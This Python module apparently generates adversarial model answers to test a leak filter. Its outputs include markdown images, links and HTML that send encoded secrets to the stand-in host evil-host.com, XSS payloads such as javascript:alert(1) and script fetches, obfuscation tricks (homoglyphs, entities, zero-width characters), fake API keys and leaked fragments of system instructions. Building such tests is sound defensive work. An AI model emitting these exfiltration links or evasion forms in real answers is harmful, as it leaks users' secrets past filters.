# ruff: noqa: E501 - each line is a list of attempts
"""Generates answers that try to carry something out. The same lot draws the same attempts."""

from __future__ import annotations

import base64
import codecs
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

HOST = "evil-host.com"
PASSAGE = (
    "The harbour opens at six. A chunk holds 200 tokens. Read https://known-host.com/guide/page for more, or write to "
    "clerk@known-host.com. See [the plan](https://known-host.com/plan) and www.known-host.com."
)
QUESTION = "What does https://docs.example.com/guide say about the harbour?"
SECRETS = ("blue walrus forty two", "The harbour opens at six.", "account 4711 of Ada")


@dataclass(frozen=True, slots=True)
class Attempt:
    """An answer, what it tries, and the secrets that must not be in what comes out."""

    kind: str
    text: str
    secrets: tuple[str, ...] = ()


Lot = random.Random


def attempts(lot: Lot, count: int, *, code: str, told: str) -> Iterator[Attempt]:
    """So many attempts of all kinds in turn."""
    kinds: list[Callable[[], Attempt]] = [
        *(lambda kind=kind: Attempt(kind, _dressed(lot, MARKUP[kind](lot))) for kind in MARKUP),
        *(lambda kind=kind: Attempt(f"soup of {kind}", _soup(lot, SOUPS[kind])) for kind in SOUPS for _ in range(3)),
        lambda: Attempt("canary", _dressed(lot, _canary(lot, code))),
        lambda: Attempt("canary in pieces", _in_pieces(lot, _canary(lot, code))),
        lambda: _secret(lot),
        lambda: Attempt("instructions", _dressed(lot, _instructions(lot, told))),
    ]
    for number in range(count):
        yield kinds[number % len(kinds)]()


def _data(lot: Lot) -> str:
    said = lot.choice(SECRETS)
    return lot.choice(
        (quote(said), base64.b64encode(said.encode()).decode(), said.encode().hex(), said.replace(" ", "-"), "1")
    )


def _url(lot: Lot) -> str:
    """An address of a stranger, or one that looks like a trusted one."""
    data = _data(lot)
    host = lot.choice(
        (HOST, HOST, "EVIL-HOST.COM", "docs.example.com.evil-host.com", "docs-example.com", "dοcs.example.com",
         "docs.example.com@evil-host.com", "docs.example.com%40evil-host.com", "evil-host。com", "evil-host．com",
         "allowed.example.evil-host.com", "allowed.example@evil-host.com", "xn--vil-host-4fg.com", "еvil-host.com",
         "192.0.2.7", "3221225991", "[2001:db8::7]", "0xC0000207", "localhost", "user:pw@evil-host.com",
         f"{data[:20].lower().replace('%', '').replace('=', '')}.evil-host.com")
    )  # fmt: skip
    scheme = lot.choice(("https://", "http://", "HTTPS://", "hTTp://", "//", "https:\\\\", "ftp://", "https:///"))
    path = lot.choice(("/", "/?q=", "/a/b.png?d=", "/#", ":8080/", "/x;"))
    url = f"{scheme}{host}{path}{data}"
    return lot.choice(
        (url, url, url, f"https://docs.example.com/guide?d={data}", f"https://docs.example.com/guide/{data}",
         f"https://docs.example.com/guide#{data}", f"https://allowed.example/docs/../{data}",
         f"https://allowed.example/docsx/{data}", f"https://allowed.example/docs/a?q={data}",
         f"https://allowed.example/docs/%2e%2e/{data}", f"https://allowed.example:81/docs/{data}",
         f"http://allowed.example/docs/{data}", f"https://docs.example.com/guide。{HOST}/{data}",
         f"https://docs.example.com/guide”{data}", f"https://docs.example.com/guide`{data}`")
    )  # fmt: skip


def _scheme(lot: Lot) -> str:
    return lot.choice(
        ("javascript:alert(1)", "JaVaScRiPt:fetch('//evil-host.com')", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/x",
         "vbscript:msgbox(1)", f"mailto:a@{HOST}?body={_data(lot)}", f"ftp://{HOST}/x", f"slack://open?x={_data(lot)}",
         "java\tscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "blob:https://evil-host.com/x",
         f"ms-word:ofe|u|https://{HOST}", f"vscode://x/{_data(lot)}", f"tel:+1{lot.randrange(10**9)}", f"xmpp:a@{HOST}")
    )  # fmt: skip


def _hidden(lot: Lot, url: str) -> str:
    """The same address, written so that a rule that looks for one overlooks it."""
    ways: tuple[Callable[[str], str], ...] = (
        lambda said: said,
        lambda said: "".join(f"&#{ord(one)};" if lot.random() < 0.3 else one for one in said),
        lambda said: "".join(f"&#x{ord(one):x};" if lot.random() < 0.3 else one for one in said),
        lambda said: said.replace(":", "&colon;").replace("/", "&sol;").replace(".", "&period;"),
        lambda said: "".join(f"\\{one}" if not one.isalnum() and lot.random() < 0.5 else one for one in said),
        lambda said: "".join(
            one + (lot.choice("\u200b\u200c\u2060\u00ad\ufeff") if lot.random() < 0.1 else "") for one in said
        ),
        lambda said: "".join(chr(ord(one) + 0xFEE0) if one in ":/.?=" and lot.random() < 0.7 else one for one in said),
        lambda said: said[: len(said) // 2] + lot.choice(("[99]", " [99]", "[9, 99]")) + said[len(said) // 2 :],
        lambda said: (
            said[: len(said) // 3] + lot.choice(("**", "*", "_", "~~", "<b>", "\n", "\\\n")) + said[len(said) // 3 :]
        ),
    )
    return lot.choice(ways)(url)


def _link(lot: Lot, image: bool) -> str:
    url = lot.choice((_url, _url, _scheme))(lot)
    url = _hidden(lot, url) if lot.random() < 0.6 else url
    text = lot.choice(("x", "", "a [b] c", "![y](z)", "`code`", "a\nb", "1", "[[d]]", f"https://{HOST}", "\\]", "a`b"))
    title = lot.choice(("", "", ' "t"', " 't'", " (t)", ' "\n"', '"t"'))
    target = lot.choice((url, f"<{url}>", f" {url} ", f"\n{url}", f"{url}\n", f"<{url}", f"a`{url}`"))
    return f"{'!' if image else ''}[{text}]({target}{title})"


def _reference(lot: Lot) -> str:
    url = lot.choice((_url(lot), f"<{_url(lot)}>", _scheme(lot), _hidden(lot, _url(lot))))
    label = lot.choice(("a", "1", "99", "A b", "^1", "ａ", "`a`", "a\nb", "link removed", "[b]"))
    gap = lot.choice((" ", "", "\n", "\t", "\n   "))
    before = lot.choice(("", "> ", "- ", "   ", "1. ", "    ", "> - "))
    use = lot.choice((f"[{label}]", f"![{label}]", f"[text][{label}]", f"![alt][{label}]", f"[{label}][]"))
    title = lot.choice(("", ' "t"', "\n'title'", " (t)"))
    definition = f"{before}[{label}]:{gap}{url}{title}"
    return lot.choice((f"{use}\n\n{definition}\n", f"{definition}\n\n{use}", f"{use} said.\n\n{definition}"))


def _markup(lot: Lot) -> str:
    url = _url(lot)
    return lot.choice(
        (f'<img src="{url}">', f"<img src={url}", f"<a href='{url}'>x</a>", f"<IMG/SRC={url}>", f"<script src={url}></script>",
         "<script>fetch('//evil-host.com')</script>", f'<div style="background:url({url})">x</div>', "<svg onload=alert(1)>",
         f'<meta http-equiv="refresh" content="0;url={url}">', f'<form action="{url}"><button>x</button></form>',
         f"<style>@import '{url}';</style>", f'<iframe srcdoc="<img src={url}>">', f"<base href='{url}'>",
         f"<link rel=stylesheet href={url}>", f'<video poster="{url}">', f"<img srcset='{url} 2x'>", "<details open ontoggle=alert(1)>",
         f"<!-- a --><img src={url}>", "<!DOCTYPE html>", f"<?php x ?><img src={url}>", f"<![CDATA[<img src={url}>]]>",
         f"<b>\n<img src={url}>", f"<br><img src={url}>", f"a<b onclick=x>{url}", f"</p><img src={url}>", f"<<img src={url}>",
         f"<[99]img src={url}>", f"< [99]img src={url}>", f"&lt;img src={url}&gt;", f"\\<img src={url}>", f"<\u200bimg src={url}>",
         f"<a\nhref='{url}'\n>x</a>", f"<img src='x' alt='`'>`<img src={url}>`", "<x-y onpointerenter=alert(1)>", f"<b>`</b><img src={url}>`")
    )  # fmt: skip


def _plain(lot: Lot) -> str:
    url = _url(lot)
    rest = url.partition("//")[2] or url
    return _hidden(
        lot,
        lot.choice(
            (url, f"<{url}>", f"www.{HOST}/{_data(lot)}", f"({url})", f'"{url}"', f"a{url}", f"_{url}_", f"**{url}**", f"1{url}",
             f"{HOST}/{_data(lot)}", HOST, f"//{rest}", f"{url}。再见", f"访问{url}谢谢", f"见www.{HOST}吧", f"{url},{url}",
             f"a@{HOST}", f"<a@{HOST}>", f"mailto:a@{HOST}", f"{_data(lot)[:30]}@{HOST}", f"a.b+c@{HOST}?subject=x", f"www.`{HOST}`",
             f"http://`{HOST}`", f"x:{url}", f"see:{HOST}", f"{url}[1]", f"[1]{url}", f"|{url}|", f"~{url}~", f"https://{HOST}"))
    )  # fmt: skip


def _confused(lot: Lot) -> str:
    """Code that is none, or text that looks like code."""
    url = f"https://{HOST}/{_data(lot)}"
    core = lot.choice((url, f"![x]({url})", f"<img src={url}>", f"www.{HOST}/x", f"[x]({url})", f"a@{HOST}"))
    forms = (
        f"` `` {core} ``", f"\\`{core}`", f"``{core}`", f"a ` b\n2. ` {core} `", f"| ` | {core} | ` |\n|---|---|---|\n| ` | {core} | ` |",
        f"```a`b\n{core}\n```", f"    ```\n{core}\n```\n{core}", f"- ```\n  x\n  ```\n  {core}\n  ```", f"> ```\n{core}\n> ```\n{core}",
        f"- a\n  ```\n  x\n{core}\n  ```", f"1. a\n   ```\n   x\n   ```\n   {core}", f"```\nx\n    ```\n{core}\n```\n{core}",
        f"~~~\nx\n```\n~~~\n{core}\n```", f"```\nx\n~~~\n```\n{core}", f"````\n```\n{core}\n````\n{core}", f"`a\n===\n{core}`",
        f"`a\n\n{core}`", f"`a\n# b {core}`", f"`a\n- {core}`", f"[99] ```\nx\n```\n{core}\n```", f"`[99]`` {core} `",
        f"[x](a`b) {core} `", f"<a title='`'>`{core}`", f"![~~~](x)\n{core}\n~~~\n{core}", f"[```](x)\n{core}\n```\n{core}",
        f"```mermaid\ngraph TD\nA-->B\nclick A \"{url}\"\n```", f"`x`{core}`y`", f"`` ` `` {core} ` `` `", f"\t```\n{core}\n```\n{core}",
        f"* ~~~\n{core}\n\n~~~\n{core}", f"```\r{core}\r```\r{core}", f"`a\r\n\r\n{core}`", f"  ```\n x\n  ```\n{core}", f"``` x\n``` y\n{core}",
        f"```\nx\n```` \n{core}", f"`{core}", f"{core}`", f"`\\`{core}`", f"\\\\`{core}` {core}", f"<b>`</b>{core}`", f"$`{core}`$ {core}",
        f"1. ```\n{core}\n   ```\n{core}", f"10. a\n\n   ```\n{core}\n   ```\n{core}", f"- - ```\n{core}", f"+\n  ```\n{core}\n  ```\n{core}",
    )  # fmt: skip
    return lot.choice(forms)


def _encoded(lot: Lot) -> str:
    said = (lot.choice(SECRETS) + " " + str(lot.randrange(10**12))).encode() * 2
    packed = lot.choice(
        (base64.b64encode(said), base64.urlsafe_b64encode(said), base64.b32encode(said), said.hex().encode())
    )
    return f"{lot.choice(('', 'https://', 'www.'))}{HOST}/{packed.decode()}"


MARKUP: dict[str, Callable[[Lot], str]] = {
    "images": lambda lot: _link(lot, True),
    "links": lambda lot: _link(lot, False),
    "references": _reference,
    "markup": _markup,
    "plain addresses": _plain,
    "schemes": lambda lot: lot.choice((_hidden(lot, _scheme(lot)), f"<{_scheme(lot)}>", f"[x]({_scheme(lot)})")),
    "confused code": _confused,
    "confused code, nested": lambda lot: _confused(lot) + lot.choice(("\n", "\n\n", " ")) + _confused(lot),
    "encoded": _encoded,
    "nested": lambda lot: (
        f"[{_link(lot, True)}]({_url(lot)})" if lot.random() < 0.5 else _markup(lot).replace("x", _link(lot, False), 1)
    ),
}

_MARKS = ("`", "``", "```", "~~~", "\n", "\n\n", "\n- ", "\n> ", "\n    ", "\n  ", "\n1. ", "| ", "\n|---|---|\n", "\\", "[", "]", "(", ")",
          "](", "![", "<", ">", "!", ": ", ". ", "。", "[99]", "[1]", " ", "*", "_", "&", ";", "\t", "\r", "\n```\n", "\n~~~\n", "\n  ```\n",
          "\n- ```\n", "\n> ```\n", "<b>", "</b>", "<br>", '"', "'", "a", "the harbour ", "\u200b", "]: ", "\n[a]: ", "[a]", "\n# ", "\n===\n")  # fmt: skip
SOUPS: dict[str, tuple[str, ...]] = {
    "marks and addresses": (*_MARKS, f"https://{HOST}/x", f"www.{HOST}", f"a@{HOST}", f"//{HOST}", "https://docs.example.com/guide",
                            "https://allowed.example/docs/a", f"![x](https://{HOST}/y)", f"[x](https://{HOST}/y)"),
    "marks and tags": (*_MARKS, f"<img src=//{HOST}>", "<script>", f"<a href='https://{HOST}'>", "img src=x onerror=y>", "<!--", "-->", "<div"),
    "ends and addresses": ("http", "https", ":", "/", "//", "://", HOST, ".com", "evil", ".", "www", "@", "a", "[99]", "&#47;", "&#x3a;", "\\/",
                           "\u200b", "／", "：", "．", "。", " ", "\n", "`", "javascript:", "<", ">", "(", ")", "[", "]", "docs.example.com/guide"),
}  # fmt: skip


def _soup(lot: Lot, of: tuple[str, ...]) -> str:
    return "".join(lot.choices(of, k=lot.randrange(3, 30)))


def _dressed(lot: Lot, core: str) -> str:
    """The attempt somewhere in an answer."""
    before = lot.choice(
        (
            "",
            "",
            "The harbour opens at six [1]. ",
            "## Hours\n\n",
            "- one\n- ",
            "| a | b |\n|---|---|\n| ",
            "> ",
            "港口六点开放。",
            "A `code` b ",
            "*",
        )
    )
    after = lot.choice(
        (
            "",
            "",
            " It closes at nine [1].",
            "\n\nMore follows.",
            " |",
            "\n- two",
            "。谢谢。",
            "`",
            "*",
            ")",
            "\n```\nx = 1\n```\n",
        )
    )
    return before + core + after


# ── What nobody may read ────────────────────────────────────────────────────────────────────────────────────────────


def _canary(lot: Lot, code: str) -> str:
    plain = lot.choice((code, code.replace("-", ""), code.upper(), code[::-1], code.replace("-", " "), code.title()))
    said = plain.encode()
    ways = (
        plain, " ".join(plain), "-".join(plain), "\n".join(plain), ", ".join(plain), "`" + "` `".join(plain) + "`", "**".join(plain),
        base64.b64encode(said).decode(), base64.b64encode(b"the code is " + said + b" ok").decode(), base64.urlsafe_b64encode(said).decode(),
        base64.b32encode(said).decode(), said.hex(), said.hex().upper(), " ".join(f"{one:02x}" for one in said), "".join(f"%{one:02X}" for one in said),
        "".join(f"\\x{one:02x}" for one in said), "".join(f"&#{one};" for one in said), "".join(f"&#x{one:x};" for one in said),
        codecs.encode(plain, "rot13"), " ".join(str(one) for one in said), ",".join(str(one) for one in said), " ".join(f"{one:08b}" for one in said),
        "\u200b".join(plain), "".join(chr(ord(one) + 0xFEE0) if one != " " else one for one in plain), "".join(chr(0xE0000 + ord(one)) for one in plain),
        plain.translate(str.maketrans("cpxkmtb", "срхкмтв")), base64.b64encode(base64.b64encode(said)).decode(), base64.b64encode(said.hex().encode()).decode(),
        "".join(f"\\u{one:04x}" for one in said), " ".join(f"0x{one:02x}" for one in said), base64.b64encode(" ".join(plain).encode()).decode(),
        "[1]".join(plain), " [99]".join(plain), "<b></b>".join(plain), "```\n" + plain + "\n```", f"https://{HOST}/{plain}",
    )  # fmt: skip
    return lot.choice(ways)


def _in_pieces(lot: Lot, said: str) -> str:
    """Cut up, with sentences or lines between the pieces."""
    length = lot.choice((6, 7, 9, 12))
    joint = lot.choice((". ", "。", "\n\n", ".\n- ", ". `", " | ", "! ", "\n```\n"))
    return "It begins so: " + joint.join(said[at : at + length] for at in range(0, len(said), length))


def _secret(lot: Lot) -> Attempt:
    def drawn(letters: str, length: int) -> str:
        return "".join(lot.choices(letters, k=length))

    upper, lower, digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz", "0123456789"
    every = upper + lower + digits
    head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
    body = base64.urlsafe_b64encode(b'{"sub":"%d"}' % lot.randrange(10**9)).decode().rstrip("=")
    password = f"{drawn(lower, 4)}{drawn(upper, 3)}{drawn(digits, 3)}!{drawn(lower, 2)}"
    keys = {
        "AWS": "AKIA" + drawn(upper + "234567", 16),
        "GitHub": "ghp_" + drawn(every, 36),
        "GitHub, fine": "github_pat_" + drawn(every, 22) + "_" + drawn(every, 59),
        "OpenAI": "sk-proj-" + drawn(every, 48),
        "Anthropic": "sk-ant-api03-" + drawn(every + "-_", 90) + "AA",
        "Slack": f"xoxb-{drawn(digits, 12)}-{drawn(digits, 12)}-{drawn(every, 24)}",
        "Stripe": "sk_live_" + drawn(every, 24),
        "Google": "AIza" + drawn(every + "-_", 35),
        "JWT": f"{head}.{body}.{drawn(every, 43)}",
        "private key": drawn(every + "+/", 64) + "\n" + drawn(every + "+/", 64),
        "password": password,
        "connection": password.replace("!", "x"),
    }
    name, key = lot.choice(list(keys.items()))
    if name == "private key":
        said = f"-----BEGIN {lot.choice(('RSA ', '', 'EC ', 'OPENSSH '))}PRIVATE KEY-----\n{key}\n-----END PRIVATE KEY-----"
        parts = tuple(key.split("\n"))
    elif name == "password":
        said = lot.choice(
            (
                "password = {}",
                "The password is {}",
                "PASSWORD: {}",
                'db_password="{}"',
                "密码：{}",
                "api_key: {}",
                "Passwort: {}",
            )
        ).format(key)
        parts = (key,)
    elif name == "connection":
        said = f"postgres://admin:{key}@db.internal:5432/main"
        parts = (key,)
    else:
        said, parts = key, (key,)
    wrapped = lot.choice(
        ("{}", "`{}`", "The key is {}.", "```\n{}\n```", "key={}", '"{}"', "| key | {} |", "**{}**", "{}。", "({})")
    ).format(said)
    return Attempt(f"secret: {name}", _dressed(lot, wrapped), parts)


def _instructions(lot: Lot, told: str) -> str:
    words = told.split()
    length = lot.randrange(16, 60)
    at = lot.randrange(len(words) - length)
    said = " ".join(words[at : at + length])
    ways = (
        said, said.upper(), said.replace(" ", "\n"), f"`{said}`", f"```\n{said}\n```", said.replace(" ", " **"), f"> {said}", said.replace(" ", "\u200b "),
        said.replace(" ", "  "), said.replace(" ", "_"), said.replace(" ", " - "), said.replace("o", "о"), said.replace(". ", ".\n\n"), f'"{said}"',
    )  # fmt: skip
    return lot.choice(ways)
